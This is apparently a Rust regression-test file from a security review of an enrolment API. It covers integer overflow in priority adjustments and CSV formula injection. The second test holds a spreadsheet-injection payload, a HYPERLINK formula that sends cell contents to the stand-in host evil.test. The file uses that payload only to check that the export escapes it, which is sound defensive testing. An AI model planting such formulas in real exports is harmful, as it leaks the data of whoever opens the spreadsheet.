//! Findings of the security review, each with the test that failed before its fix.

use serde_json::json;
use va_tests::expect_json as send;
use va_tests::{db_tests, TestApp};

use super::waitlist::approved;

/// `i32::MIN` as a priority adjustment overflowed `abs()` (a panic in debug,
/// a wrap past the ±5 check in release): now 422 for every value out of range.
async fn an_extreme_priority_adjustment_is_refused(app: TestApp) {
    let ids = approved(&app, "gemeente.venlo@demo.local", "ambassadeur.noord@demo.local", &[("P Q", "p.q@venlo.demo.local", true)]).await;
    let bel = app.token("bel@demo.local").await;
    for adjustment in [i64::from(i32::MIN), i64::from(i32::MAX), 6, -6] {
        let body = send(app.put_json(&format!("/api/v1/enrolments/{}/priority", ids[0]), Some(&bel), &json!({"adjustment": adjustment, "reason": "Spoed"})).await, 422).await;
        assert_eq!(body["errors"][0]["field"], "adjustment", "{adjustment}: {body}");
    }
    send(app.put_json(&format!("/api/v1/enrolments/{}/priority", ids[0]), Some(&bel), &json!({"adjustment": -5, "reason": "Later"})).await, 200).await;
}

/// A name that a spreadsheet would run as a formula comes out of the CSV as text.
async fn csv_exports_do_not_carry_formulas(app: TestApp) {
    let evil = "=HYPERLINK(\"http://evil.test/?\"&A1,\"klik\")";
    approved(&app, "gemeente.venlo@demo.local", "ambassadeur.noord@demo.local", &[(evil, "evil@venlo.demo.local", true)]).await;
    let bel = app.token("bel@demo.local").await;
    let csv = app.get("/api/v1/exports/requests?format=csv", Some(&bel)).await.text().await.expect("csv");
    assert!(!csv.lines().any(|l| l.split(';').any(|cell| cell.trim_matches('"').starts_with('='))), "{csv}");
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
}

db_tests!(an_extreme_priority_adjustment_is_refused, csv_exports_do_not_carry_formulas);
